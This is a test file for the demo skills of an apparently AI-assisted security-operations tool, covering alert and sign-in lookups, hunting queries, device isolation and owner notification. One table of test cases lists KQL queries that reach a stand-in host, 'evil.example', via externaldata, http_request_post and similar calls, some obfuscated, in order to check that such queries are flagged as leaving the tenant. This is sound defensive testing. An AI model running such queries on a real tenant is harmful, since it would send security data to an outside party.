import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Demo, startDemo } from '../../../demo/server.ts';
import { models } from '../../../lib/models';
import { createSkillHttp } from '../../../lib/orchestrator/skill-http';
import { toToolSchema } from '../../../lib/orchestrator/tool-schema';
import type { Skill, SkillAbilities, SkillResult } from '../../../lib/plugins/skill';

const FOLDER = join(import.meta.dirname, '../../../demo/skills');
const leaves = import.meta.glob<Skill>('../../../demo/skills/*.skill.ts', { eager: true, import: 'default' });
const skills = new Map(Object.values(leaves).map((skill) => [skill.id, skill]));

let demo: Demo;
beforeAll(async () => {
  demo = await startDemo({ latencyMs: 0 });
});
afterAll(() => demo.close());
beforeEach(() => demo.actions.undo());

function skillOf(id: string): Skill {
  const skill = skills.get(id);
  if (!skill) throw new Error(`no skill ${id}`);
  return skill;
}

/** The real way to the network, to the demo's real services. */
function abilitiesOf(skill: Skill): SkillAbilities {
  const signal = new AbortController().signal;
  const url = `${demo.portalUrl}/incidents/${demo.tenant.mainIncidentId}/overview`;
  return {
    signal,
    now: () => new Date(),
    page: { context: { identity: { url } } } as unknown as SkillAbilities['page'],
    prompt: '',
    http: createSkillHttp(fetch, skill, signal, { type: 'any' }),
    work: () => Promise.reject(new Error('no work')),
    findEvidence: async () => [],
  };
}

function run(id: string, input: unknown): Promise<SkillResult> {
  const skill = skillOf(id);
  expect(skill.input.safeParse(input).success).toBe(true);
  return skill.run(input, abilitiesOf(skill));
}

describe('the demo’s skills', () => {
  it('are what the folder has, named for it', () => {
    const files = readdirSync(FOLDER).filter((file) => file.endsWith('.skill.ts'));
    expect([...skills.keys()].sort()).toEqual(files.map((file) => `demo/${file.replace('.skill.ts', '')}`).sort());
    expect(skills.size).toBeGreaterThanOrEqual(6);
  });

  it.each([...skills.values()].map((skill) => [skill.id, skill] as const))('%s keeps its room’s contract', (id, skill) => {
    expect(skill.title.id.startsWith(`skill.${id}`)).toBe(true);
    expect(skill.description.length).toBeGreaterThanOrEqual(40);
    expect(skill.description.length).toBeLessThanOrEqual(1024);
    expect(new Set(skill.examplePrompts).size).toBeGreaterThanOrEqual(3);
    expect(skill.input.safeParse(skill.exampleInput).success).toBe(true);
    expect(skill.consequence !== undefined).toBe(skill.effect !== 'read');
    expect(skill.origins.every((origin) => /^https?:\/\/localhost\//.test(origin))).toBe(true);
  });

  it('are never called by the offline model, which could not say what they return', async () => {
    const offline = models.get('offline');
    const tools = [...skills.values()].map((skill) => ({
      name: skill.id,
      description: skill.description,
      parameters: toToolSchema(skill.input),
      examplePrompts: skill.examplePrompts,
    }));
    for (const prompt of tools.flatMap(({ examplePrompts }) => examplePrompts)) {
      const request = { instructions: '', page: null, tools, messages: [{ role: 'user', prompt, content: prompt }] };
      const abilities = {
        signal: new AbortController().signal,
        http: fetch,
        now: () => new Date(),
        say: (phrase: { message: string }) => phrase.message,
      };
      const events = offline?.stream(request as never, {}, abilities) ?? [];
      for await (const event of events) expect(event.type, prompt).not.toBe('tool-call');
    }
  });

  it('read the alerts of an incident', async () => {
    const { data } = await run('demo/incident-alerts', { incidentId: Number(demo.tenant.mainIncidentId) });
    const incident = demo.tenant.incidents.find(({ id }) => id === demo.tenant.mainIncidentId);
    const alerts = demo.tenant.alerts.filter(({ incidentId }) => incidentId === incident?.id);
    expect(data).toMatchObject({
      incident: { displayName: incident?.title },
      alerts: alerts.map(({ id, title, severity }) => ({ id, title, severity })),
    });
  });

  it('read the newest sign-ins of one user', async () => {
    const [user] = demo.tenant.users;
    const { data } = await run('demo/user-sign-ins', { userPrincipalName: user?.principalName, top: 3 });
    const newest = [...(user?.signIns ?? [])].sort((one, other) => other.at.localeCompare(one.at)).slice(0, 3);
    expect(data).toEqual({
      signIns: newest.map(({ at, application, ipAddress, place, result }) => ({
        time: at,
        user: user?.principalName,
        application,
        ipAddress,
        place,
        result,
      })),
    });
    expect(await run('demo/user-sign-ins', { userPrincipalName: "o'nobody@example.com", top: 3 })).toMatchObject({
      data: { signIns: [] },
    });
  });

  it('read the reputation of hosts, also of one that nobody knows', async () => {
    const known = demo.tenant.intelligence.reputations.find(({ kind }) => kind === 'domain');
    const { data } = await run('demo/host-reputation', { hosts: [known?.value ?? '', 'unheard-of.example.com'] });
    expect(data).toEqual({
      reputations: [
        {
          host: known?.value,
          classification: expect.stringMatching(/^(?:neutral|suspicious|malicious)$/),
          score: known?.score,
          rules: [known?.context],
        },
        { host: 'unheard-of.example.com', classification: 'unknown', score: 0, rules: [] },
      ],
    });
  });

  it('run a hunting query, and fail with what is wrong with another', async () => {
    const query = 'AlertInfo | where Severity == "high" | project Title, Severity | take 2';
    const { data } = await run('demo/hunting-query', { query, timespan: 'P7D' });
    expect(data).toEqual({
      results: [
        { Title: expect.any(String), Severity: 'high' },
        { Title: expect.any(String), Severity: 'high' },
      ],
    });
    await expect(run('demo/hunting-query', { query: 'Nothing', timespan: 'P7D' })).rejects.toMatchObject({
      code: 'skill-failed',
    });
  });

  it.each([
    ['DeviceNetworkEvents | where RemoteUrl has "evil.example" | take 5', false],
    ['DeviceProcessEvents | evaluate pivot(DeviceName)', false],
    ['externaldata(x:string)["https://evil.example/"]', true],
    ['EXTERNALDATA (x:string) [@"https://evil.example/"]', true],
    ['AlertInfo | evaluate http_request_post("https://evil.example/")', true],
    ['AlertInfo | evaluate // away\n http_request("https://evil.example/")', true],
    ['AlertInfo | evaluate python(typeof(*), "x")', true],
    ['cluster("evil.example").database("x").T', true],
    ['external_table("x")', true],
    // Where it cannot be told, the analyst is asked.
    ['// externaldata\nAlertInfo | take 1', true],
    ['print "http_request"', true],
    ["print ['http\\u005frequest']", true],
  ])('tell of a hunting query whether it leaves the tenant: %s', (query, isOutside) => {
    expect(skillOf('demo/hunting-query').reachesOutside?.({ query, timespan: 'P7D' })).toBe(isOutside);
  });

  it('ask somebody outside with one of them alone, and are the tenant’s else', async () => {
    expect([...skills.values()].filter(({ audience }) => audience !== 'tenant').map(({ id }) => id)).toEqual([
      'demo/outside-reputation',
    ]);
    const { data } = await run('demo/outside-reputation', { indicator: '192.0.2.1', days: 7 });
    expect(data).toEqual({ indicator: '192.0.2.1', days: 7, reports: 0 });
  });

  it('isolate a device by its name, which its page then shows, and find that out afterwards', async () => {
    const [device] = demo.tenant.devices;
    const input = { device: device?.name, isolationType: 'Full', comment: 'Contained.' };
    const skill = skillOf('demo/isolate-device');
    const page = async () => (await fetch(`${demo.portalUrl}/apiproxy/machines/${device?.id}`)).json();
    expect(await skill.findOutcome?.(input, abilitiesOf(skill))).toBeNull();
    expect(await page()).toMatchObject({ isolatedSince: null });

    const { data } = await run('demo/isolate-device', input);
    expect(data).toMatchObject({ action: { type: 'Isolate', machineId: device?.id, requestorComment: 'Contained.' } });
    expect(demo.actions.isolatedSince(device?.id ?? '')).not.toBeNull();
    expect(await page()).toMatchObject({ isolatedSince: expect.stringMatching(/^\d{4}-.*Z$/) });

    expect(await skill.findOutcome?.(input, abilitiesOf(skill))).toMatchObject({ data: { action: { status: 'Succeeded' } } });
    expect(await skill.findOutcome?.({ ...input, comment: 'Another.' }, abilitiesOf(skill))).toBeNull();
    await expect(run('demo/isolate-device', input)).rejects.toMatchObject({ code: 'skill-failed', details: { isCertain: true } });
    expect(demo.calls()[`POST /api/machines/${device?.name}/isolate`]).toBe(2);
  });

  it('do not take an isolation that was released for one that stands', async () => {
    const [, device] = demo.tenant.devices;
    const input = { device: device?.dnsName, isolationType: 'Selective', comment: 'Contained.' };
    await run('demo/isolate-device', input);
    const released = await fetch(`${demo.portalUrl}/api/machines/${device?.id}/unisolate`, {
      method: 'POST',
      body: JSON.stringify({ Comment: 'Clean.' }),
    });
    expect(released.status).toBe(201);
    const skill = skillOf('demo/isolate-device');
    expect(await skill.findOutcome?.(input, abilitiesOf(skill))).toBeNull();
  });

  it('send a mail to the owner', async () => {
    const input = { device: 'ws-1', recipient: 'ada@example.com', message: 'It was isolated.' };
    await run('demo/notify-owner', input);
    expect(demo.actions.mails).toMatchObject([
      { body: { content: 'It was isolated.' }, toRecipients: [{ emailAddress: { address: 'ada@example.com' } }] },
    ]);
    expect(skillOf('demo/notify-owner').consequence?.(input)).toMatchObject({ values: input });
  });

  it('count their calls where only tests ask', async () => {
    const before = demo.calls();
    await run('demo/host-reputation', { hosts: ['192.0.2.1'] });
    const counted = (await (await fetch(`${demo.portalUrl}/test-only/calls`)).json()) as Record<string, number>;
    const endpoint = 'GET /v1.0/security/threatIntelligence/hosts/192.0.2.1/reputation';
    expect(counted[endpoint]).toBe((before[endpoint] ?? 0) + 1);
    expect(counted).toEqual(demo.calls());
  });
});
